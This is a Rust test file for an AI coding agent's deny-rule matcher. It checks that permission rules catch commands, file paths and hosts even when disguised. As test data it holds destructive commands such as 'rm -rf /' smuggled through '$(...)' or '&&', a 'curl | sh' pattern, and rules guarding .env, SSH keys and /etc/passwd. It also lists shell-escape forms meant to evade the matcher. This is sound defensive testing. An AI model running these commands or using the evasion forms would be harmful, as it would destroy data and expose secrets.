//! Rules as people write them, against what an edit could become.

use super::*;
use serde_json::json;

const AROUND: Around<'_> = Around {
    directory: "/home/ada/api",
    home: "/home/ada",
};

fn hit(rule: &str, tool: &str, input: serde_json::Value) -> bool {
    let rule = DenyRule::read(rule, "your user settings", "/home/ada/api").expect("a rule");
    let input = ToolInput::from_value(input);
    check(&[rule], tool, &input, AROUND).is_err()
}

fn runs(rule: &str, command: &str) -> bool {
    hit(rule, "Bash", json!({"command": command}))
}

#[test]
fn a_rule_hits_its_command_wherever_it_stands_in_the_line() {
    for command in [
        "rm -rf build",
        "rm",
        "  rm   -rf  build",
        "cd x && rm -rf build",
        "cd x; rm y",
        "true || rm y",
        "cat x | rm y",
        "sleep 1 & rm y",
        "echo $(rm y)",
        "echo \"$(rm y)\"",
        "echo `rm y`",
        "(rm y)",
        "{ rm y; }",
        "if true; then rm y; fi",
        "for f in a; do rm $f; done",
        "sudo rm y",
        "sudo -u root rm y",
        "FOO=1 BAR=2 rm y",
        "env -i FOO=1 rm y",
        "timeout 5 rm y",
        "nice -n 10 rm y",
        "find . | xargs rm",
        "bash -c 'rm y'",
        "bash -c \"cd x; rm y\"",
        "eval rm y",
        "/bin/rm y",
        "sudo /usr/bin/rm y",
        "\\rm y",
        "'rm' y",
        "r\\m y",
        "cat <(rm y)",
        "ls\nrm y",
        "ls \\\n && rm y",
        "! rm y",
    ] {
        for rule in ["Bash(rm:*)", "Bash(rm *)"] {
            assert!(runs(rule, command), "{rule} and {command:?}");
        }
    }
}

#[test]
fn a_rule_does_not_hit_what_only_looks_like_its_command() {
    for command in [
        "ls",
        "rmdir x",
        "echo rm",
        "echo 'a; rm x'",
        "git commit -m 'rm the file; rm it'",
        "cat rm",
        "./format --rm",
        "",
    ] {
        for rule in ["Bash(rm:*)", "Bash(rm *)"] {
            assert!(!runs(rule, command), "{rule} and {command:?}");
        }
    }
}

#[test]
fn stars_and_exact_commands() {
    for (rule, command, expected) in [
        ("Bash", "anything", true),
        ("Bash(*)", "anything", true),
        ("Bash()", "anything", true),
        ("Bash(npm test)", "npm test", true),
        ("Bash(npm test)", "npm test --all", false),
        ("Bash(npm test)", "cd a && npm  test", true),
        ("Bash(npm run *)", "npm run build", true),
        ("Bash(npm run *)", "npm run", true),
        ("Bash(npm run *)", "npm runs", false),
        ("Bash(git push*)", "git push origin", true),
        ("Bash(git push*)", "git pushall", true),
        ("Bash(git * main)", "git push origin main", true),
        ("Bash(git * main)", "git push origin next", false),
        ("Bash(* --force)", "git push --force", true),
        ("Bash(curl * | sh)", "curl x.example | sh", true),
        ("Read(/x)", "cat /x", false),
    ] {
        assert_eq!(runs(rule, command), expected, "{rule} and {command}");
    }
}

#[test]
fn paths_are_meant_as_in_a_gitignore() {
    for (rule, path, expected) in [
        ("Read(.env)", "/home/ada/api/.env", true),
        ("Read(.env)", "/home/ada/api/deep/.env", true),
        ("Read(.env)", ".env", true),
        ("Read(.env)", "src/../.env", true),
        ("Read(.env)", "/home/ada/api/.envrc", false),
        ("Read(.env*)", "/home/ada/api/.envrc", true),
        ("Read(./secrets/**)", "/home/ada/api/secrets/a/b", true),
        ("Read(./secrets/**)", "/home/ada/secrets/a", false),
        ("Read(secrets/)", "/home/ada/api/secrets/a", true),
        ("Read(/secrets/**)", "/home/ada/api/secrets/a", true),
        ("Read(//etc/**)", "/etc/passwd", true),
        ("Read(//etc)", "/etc/ssl/key", true),
        ("Read(//etc/**)", "/home/ada/api/../../../etc/passwd", true),
        ("Read(//etc/**)", "/home/etc/passwd", false),
        ("Read(~/.ssh/**)", "/home/ada/.ssh/id", true),
        ("Read(~/.ssh/**)", "~/.ssh/id", true),
        ("Read(**/*.pem)", "/home/ada/api/a/b.pem", true),
        ("Read(src/*.rs)", "/home/ada/api/src/a.rs", true),
        ("Read(src/*.rs)", "/home/ada/api/src/a/b.rs", false),
    ] {
        assert_eq!(
            hit(rule, "Read", json!({"file_path": path})),
            expected,
            "{rule} and {path}"
        );
    }
}

#[test]
fn a_rule_for_editing_is_about_all_that_writes_and_one_for_reading_about_all_that_reads() {
    let file = json!({"file_path": "/home/ada/api/.env", "notebook_path": "/home/ada/api/.env"});
    for tool in ["Edit", "Write", "MultiEdit", "NotebookEdit"] {
        assert!(hit("Edit(.env)", tool, file.clone()), "{tool}");
        assert!(!hit("Read(.env)", tool, file.clone()), "{tool}");
    }
    for tool in ["Glob", "Grep"] {
        assert!(hit("Read(.env)", tool, json!({"path": ".env"})), "{tool}");
    }
    assert!(hit("Write(.env)", "Write", file.clone()));
    assert!(!hit("Write(.env)", "Edit", file));
}

#[test]
fn hosts_and_servers() {
    for (rule, url, expected) in [
        (
            "WebFetch(domain:evil.example)",
            "https://evil.example/x",
            true,
        ),
        (
            "WebFetch(domain:evil.example)",
            "https://EVIL.example:8443/x",
            true,
        ),
        (
            "WebFetch(domain:evil.example)",
            "https://a.evil.example",
            true,
        ),
        (
            "WebFetch(domain:evil.example)",
            "https://good@evil.example/",
            true,
        ),
        (
            "WebFetch(domain:evil.example)",
            "https://evil.example.good.example",
            false,
        ),
        (
            "WebFetch(domain:evil.example)",
            "https://notevil.example",
            false,
        ),
        ("WebFetch", "https://a.example", true),
    ] {
        assert_eq!(
            hit(rule, "WebFetch", json!({"url": url})),
            expected,
            "{rule} and {url}"
        );
    }
    for (rule, expected) in [
        ("mcp__github", true),
        ("mcp__github__*", true),
        ("mcp__github__create_issue", true),
        ("mcp__git", false),
        ("mcp__github__create", false),
        ("Bash", false),
    ] {
        assert_eq!(
            hit(rule, "mcp__github__create_issue", json!({})),
            expected,
            "{rule}"
        );
    }
}

#[test]
fn the_refusal_names_the_rule_and_its_place() {
    let rule = DenyRule::read(" Bash(rm *) ", "your user settings", "/").expect("a rule");
    let input = ToolInput::from_value(json!({"command": "rm x"}));
    let refusal = check(&[rule], "Bash", &input, AROUND).expect_err("forbidden");
    assert!(
        refusal.message.contains("Bash(rm *)") && refusal.message.contains("your user settings")
    );
    assert_eq!(DenyRule::read("Bash(rm", "", ""), None);
    assert_eq!(DenyRule::read("", "", ""), None);
}

#[test]
fn the_longest_line_is_looked_at_in_a_moment() {
    let line = "a * b ".repeat(20_000);
    assert!(!runs("Bash(*x*y*z*)", &line));
    let nested = format!("{}rm{}", "bash -c '(".repeat(1000), ")'".repeat(1000));
    assert!(
        runs("Bash(rm *)", &nested),
        "what is made to confuse is hit"
    );
    assert!(!runs("Bash(rm *)", &"echo a; ".repeat(500)));
}

#[test]
fn a_rule_covers_a_line_only_when_it_covers_each_of_its_commands() {
    let covers = |rule: &str, command: &str| {
        let input = ToolInput::from_json(&serde_json::json!({"command": command}).to_string());
        let around = Around {
            directory: "/code/api",
            home: "/home/me",
        };
        super::covers(rule, "Bash", &input.expect("an input"), around)
    };
    for (rule, command, expected) in [
        ("Bash(cargo test *)", "cargo test --workspace", true),
        ("Bash(cargo test:*)", "cargo test && cargo test -q", true),
        ("Bash(cargo test *)", "cargo test && rm -rf /", false),
        ("Bash(cargo test *)", "cargo test; cargo build", false),
        ("Bash(cargo test *)", "cargo test $(rm -rf /)", false),
        ("Bash(cargo test *)", "cargo test > /etc/passwd", false),
        ("Bash(cargo test *)", "sudo cargo test", false),
        ("Bash(cargo test *)", "cargo testing", false),
        ("Bash(ls)", "ls -l", false),
        ("Bash(ls)", "ls", true),
        ("Bash", "anything at all", true),
        ("Read", "ls", false),
        ("Bash(ls", "ls", false),
        ("Bash(ls *)", "", false),
        (r"Bash(echo \(x\))", "echo \\(x\\)", false),
        (r"Bash(echo \\\(x\\\))", r"echo \(x\)", true),
        (r"Bash(grep -E '\(a|b\)' *)", "ls", false),
    ] {
        assert_eq!(covers(rule, command), expected, "{rule}: {command}");
    }
}
